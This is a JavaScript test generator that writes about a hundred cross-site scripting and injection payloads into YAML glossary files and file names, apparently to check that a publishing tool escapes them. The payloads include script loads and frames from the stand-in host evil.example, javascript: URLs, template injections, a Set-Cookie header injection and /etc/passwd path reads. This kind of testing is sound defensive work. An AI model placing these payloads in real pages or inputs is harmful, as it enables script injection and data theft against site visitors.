// SPDX-License-Identifier: EUPL-1.2
// Plans that attack the page that they are published on. Usage: payloads.mjs FOLDER
// Two workspaces: in `texts` each attack stands where an author may write anything; in `fields` it stands where a schema
// says what may stand, so that it is a fault as well.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const evil = "https://evil.example/";
const call = "window.nspHit=1;alert(1)";

export const payloads = [...new Set([
  // Scripts, and what ends what they stand in
  `<script>${call}</script>`, `</title><script>${call}</script>`, `</script><script>${call}</script>`,
  `"><script>${call}</script>`, `'><script>${call}</script>`, `--><script>${call}</script>`,
  `]]><script>${call}</script>`, `<![CDATA[<script>${call}</script>]]>`, `</style><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</svg><script>${call}</script>`, `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<SCRIPT SRC=${evil}x.js></SCRIPT>`, `<script/src=${evil}x.js>`, `<script\n>${call}</script\n>`,
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `\\u003cscript>${call}</script>`,
  `%3Cscript%3E${call}%3C/script%3E`, `＜script＞${call}＜/script＞`,
  // Handlers
  `<img src=x onerror=${call}>`, `<img src="${evil}a.png">`, `<img srcset="${evil}b.png 2x">`, `" onmouseover="${call}`,
  `' onfocus='${call}' autofocus='`, `" autofocus onfocus=${call} x="`, `<body onload=${call}>`,
  `<details open ontoggle=${call}>`, `<video><source onerror=${call}></video>`, `<input autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`, `<a href=x onclick=${call}>a</a>`, "`onload=" + call + "`", `<p style="animation:x" onanimationstart=${call}>`,
  // SVG and MathML
  `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><use href="${evil}u.svg#x">`, `<math><a xlink:href="javascript:${call}">x</a></math>`,
  `<svg><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  // Addresses
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java&#115;cript:${call}`, `java&Tab;script:${call}`,
  `&#x6A;avascript:${call}`, ` javascript:${call}`, `javascript&colon;${call}`, `vbscript:msgbox(1)`, `//evil.example/x`, `\\\\evil.example\\x`,
  `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:${evil}x`, `file:///etc/passwd`, `https:evil.example`, `http://evil.example" onclick="${call}`, `https://x.example/><script>${call}</script>`,
  `https://a@evil.example/`, `mailto:a@b.example?subject=<script>${call}</script>`, `../../../../etc/passwd`, `jar:${evil}x!/`,
  // Styles, frames, documents
  `<style>@import "${evil}x.css";</style>`, `<link rel=stylesheet href=${evil}x.css>`, `<div style="background:url(${evil}x)">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`, `<base href="${evil}">`, `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`, `<object data="${evil}"></object>`, `<embed src="${evil}">`,
  `<form action="${evil}"><button>x</button></form>`, `<a target=_blank href=${evil}>x</a>`, `<plaintext>`, `<xmp><script>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<template><script>${call}</script></template>`, `<!--`, `<!DOCTYPE x [<!ENTITY a "b">]>`, `<?php echo 1 ?>`,
  // Templates and Markdown
  "{{constructor.constructor('" + call + "')()}}", "${" + call + "}", "<%= 1 %>", "#{1}", "{% raw %}", "[[${1}]]",
  `[x](javascript:${call})`, `[x](<javascript:${call}>)`, `![x](${evil}i.png)`, `![x](javascript:${call})`, `<javascript:${call}>`,
  `[x]: javascript:${call}\n\n[x]`, `[x](https://x.example "onclick=${call}")`, `[x](https://x.example"onmouseover="${call})`, "```html\n<script>" + call + "</script>\n```",
  `| a |\n|---|\n| <script>${call}</script> |`, `> <script>${call}</script>`, `# <img src=x onerror=${call}>`, "`<script>" + call + "</script>`", `[[<script>${call}</script>]]`, "[[x]](javascript:1)",
  // Characters
  `\u202E<script>${call}</script>`, `\u200B<script\u200B>${call}</script>`, `\uFEFF<script>${call}</script>`, `\u2028<script>${call}</script>`, `\u0085${call}`, `a\r\nSet-Cookie: x=1`,
  `é\u0301<svg/onload=${call}>`, `<\u0073cript>${call}</script>`, `\u{1F600}"><svg onload=${call}>`,
])];

/// Where an attack stands within prose.
const places = [
  (p) => p, (p) => `Text ${p} text`, (p) => `[label](${p})`, (p) => `[label](<${p}>)`, (p) => `[${p}](https://x.example)`,
  (p) => `![${p}](${p})`, (p) => `\`${p}\``, (p) => `| a | ${p} |\n|---|---|\n| ${p} | b |`, (p) => `# ${p}`, (p) => `- ${p}\n  - ${p}`,
  (p) => `    ${p}`, (p) => `*${p}* **${p}** <${p}>`,
];

function glossary(id, payload) {
  const line = JSON.stringify(payload.replace(/[\r\n]+/g, " "));
  const terms = places.map((place, i) =>
    `  - id: t${i}\n    title: ${line}\n    abbreviation: ${line}\n    text: ${JSON.stringify(place(payload))}\n`);
  return `kind: glossary\nid: ${id}\ntitle: {en: ${line}, nl: ${line}}\nnotes:\n  - ${JSON.stringify(payload)}\n` +
    `source:\n  - title: ${line}\nterms:\n${terms.join("")}`;
}

/// A document with the attack in a field that has a form.
const fields = {
  id: (p) => `kind: glossary\nid: ${JSON.stringify(p)}\ntitle: A\nterms:\n  - id: ${JSON.stringify(p)}\n    title: A\n`,
  language: (p, id) => `kind: glossary\nid: ${id}\nlanguages: [en, ${JSON.stringify(p)}]\ntitle: {en: A, ${JSON.stringify(p)}: B}\nterms:\n  - id: term\n    title: A\n`,
  url: (p, id) => `kind: glossary\nid: ${id}\ntitle: A\nsource:\n  - title: A\n    url: ${JSON.stringify(p)}\nterms:\n  - id: term\n    title: A\n`,
  address: (p, id) => `kind: legislation\nid: ${id}\ntitle: A\nlaws:\n  - id: law\n    title: A\n    url: {en: ${JSON.stringify(p)}}\n`,
  reference: (p, id) => `kind: cluster\nid: ${id}\ntitle: A\nnumber: 1\npart_of: ${JSON.stringify(p)}\n`,
};

function write(folder, name, text) {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, name), text);
}

export function cases() {
  return payloads.length * (places.length + 5 + Object.keys(fields).length);
}

if (process.argv[1].endsWith("payloads.mjs")) {
  const folder = process.argv[2];
  for (const workspace of ["texts", "fields"])
    write(join(folder, workspace), "nsp.yaml", "plans: [plans]\nlanguages: [en, nl]\n");
  payloads.forEach((payload, i) => {
    write(join(folder, "texts/plans"), `g${i}.yaml`, glossary(`g${i}`, payload));
    for (const [name, document] of Object.entries(fields))
      write(join(folder, "fields/plans"), `${name}-${i}.yaml`, document(payload, `${name}-${i}`));
    // The attack as a name of a file, as far as a disk takes it.
    const file = payload.replace(/[/\0]/g, "_").slice(0, 60);
    write(join(folder, "fields/plans"), `${file}.yaml`, `kind: glossary\nid: file-${i}\ntitle: A\nterms:\n  - id: term\n    title: A\n`);
  });
}
